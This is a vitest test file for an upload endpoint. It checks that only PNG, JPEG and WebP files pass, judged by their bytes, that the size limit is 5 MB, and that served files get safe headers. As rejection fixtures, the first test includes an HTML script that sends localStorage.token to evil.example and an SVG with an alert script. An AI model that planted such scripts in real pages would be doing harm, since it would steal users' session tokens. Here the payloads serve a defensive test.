// @vitest-environment node
/** Uploaded files: only the accepted image types (judged by their bytes), at most 5 MB, served inert. */
import { getResponse } from 'msw'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { API, CLIENT_HEADER } from '../src/api/paths.ts'
import { handlers, resetDb, runtime, server } from './node.ts'
import { BASE, login, type Body } from './test-client.ts'

beforeAll(() => server.listen({ onUnhandledRequest: 'error' }))
beforeEach(() => resetDb())
afterEach(() => server.resetHandlers())
afterAll(() => server.close())

const MB = 1024 * 1024
const PNG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]
const JPEG = [0xff, 0xd8, 0xff, 0xe0]
const WEBP = [...'RIFF']
  .map((c) => c.charCodeAt(0))
  .concat(
    [0x24, 0, 0, 0],
    [...'WEBPVP8 '].map((c) => c.charCodeAt(0)),
  )
const text = (s: string) => [...new TextEncoder().encode(s)]

/** `head` then zeros up to `size` bytes. */
function bytes(head: number[], size = head.length + 16): Uint8Array {
  const out = new Uint8Array(size)
  out.set(head)
  return out
}

async function upload(token: string, content: Uint8Array, claimedType: string, name: string, lang?: string) {
  const form = new FormData()
  form.append('file', new Blob([content as Uint8Array<ArrayBuffer>], { type: claimedType }), name)
  const res = await fetch(`${BASE}${API.file.upload}`, {
    method: 'POST',
    headers: {
      [CLIENT_HEADER.name]: CLIENT_HEADER.value,
      authorization: `Bearer ${token}`,
      ...(lang ? { 'accept-language': lang } : {}),
    },
    body: form,
  })
  return { status: res.status, body: (await res.json()) as Body<{ name: string; url: string } | null> }
}

describe('uploads', () => {
  it('refuses HTML, SVG and anything not a PNG, JPEG or WebP, whatever the client claims', async () => {
    const token = await login('taixe', 'taixe123')
    const html = text('<!doctype html><script>fetch("//evil.example?"+localStorage.token)</script>')
    const svg = text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    for (const [content, type, name] of [
      [html, 'text/html', 'steal.html'],
      [html, 'image/png', 'steal.png'],
      [svg, 'image/svg+xml', 'logo.svg'],
      [text('%PDF-1.7'), 'application/pdf', 'hop-dong.pdf'],
    ] as const) {
      const res = await upload(token, new Uint8Array(content), type, name)
      expect(res.status, name).toBe(415)
      expect(res.body).toEqual({ code: 415, message: 'Chỉ nhận ảnh PNG, JPEG hoặc WebP', data: null })
    }
    const en = await upload(token, new Uint8Array(html), 'text/html', 'steal.html', 'en')
    expect(en.body.message).toBe('Only PNG, JPEG or WebP images are accepted')
    expect(runtime.uploads.size).toBe(0)
  })

  it('stores the type found in the bytes, not the one claimed, and serves the file inert', async () => {
    const token = await login('admin', 'admin123')
    for (const [head, expected] of [
      [PNG, 'image/png'],
      [JPEG, 'image/jpeg'],
      [WEBP, 'image/webp'],
    ] as const) {
      const content = bytes([...head])
      const res = await upload(token, content, 'text/html', 'steal.html')
      expect(res.status).toBe(200)
      const { name, url } = res.body.data!
      expect(url).toBe(`/uploads/${name}`)
      expect(name).not.toMatch(/\.html$/)
      const file = await fetch(`${BASE}${url}`)
      expect(file.status).toBe(200)
      expect(file.headers.get('content-type')).toBe(expected)
      expect(file.headers.get('x-content-type-options')).toBe('nosniff')
      expect(file.headers.get('content-security-policy')).toBe('sandbox')
      expect(file.headers.get('content-disposition')).toBeNull()
      expect(new Uint8Array(await file.arrayBuffer())).toEqual(content)
    }
  })

  it('serves anything that is not an image as a download', async () => {
    runtime.uploads.set('cu.html', {
      name: 'cu.html',
      type: 'text/html',
      bytes: new Uint8Array(text('<b>x</b>')),
    })
    const file = await fetch(`${BASE}/uploads/cu.html`)
    expect(file.headers.get('content-disposition')).toBe('attachment; filename="cu.html"')
    expect(file.headers.get('x-content-type-options')).toBe('nosniff')
    expect(file.headers.get('content-security-policy')).toBe('sandbox')
    const missing = await fetch(`${BASE}/uploads/khong-co.png`)
    expect(missing.status).toBe(404)
    expect(missing.headers.get('x-content-type-options')).toBe('nosniff')
  })

  it('takes an image of exactly 5 MB and refuses one byte more, in the request language', async () => {
    const token = await login('admin', 'admin123')
    expect((await upload(token, bytes(PNG, 5 * MB), 'image/png', 'vua.png')).status).toBe(200)
    const over = await upload(token, bytes(PNG, 5 * MB + 1), 'image/png', 'lon.png')
    expect(over).toEqual({
      status: 413,
      body: { code: 413, message: 'Tệp quá lớn: tối đa 5 MB', data: null },
    })
    const en = await upload(token, bytes(PNG, 5 * MB + 1), 'image/png', 'lon.png', 'en')
    expect(en.body.message).toBe('The file is too large: at most 5 MB')
    expect(runtime.uploads.size).toBe(1)
  })

  it('refuses a request whose Content-Length is over the limit before reading its body', async () => {
    const token = await login('admin', 'admin123')
    const body = new ReadableStream({
      pull: () => {
        throw new Error('the body was read')
      },
    })
    const response = await getResponse(
      handlers,
      new Request(`${BASE}${API.file.upload}`, {
        method: 'POST',
        headers: {
          [CLIENT_HEADER.name]: CLIENT_HEADER.value,
          authorization: `Bearer ${token}`,
          'content-type': 'multipart/form-data; boundary=x',
          'content-length': String(50 * MB),
        },
        body,
        duplex: 'half',
      } as RequestInit),
    )
    expect(response?.status).toBe(413)
    expect(await response?.json()).toEqual({ code: 413, message: 'Tệp quá lớn: tối đa 5 MB', data: null })
  })
})
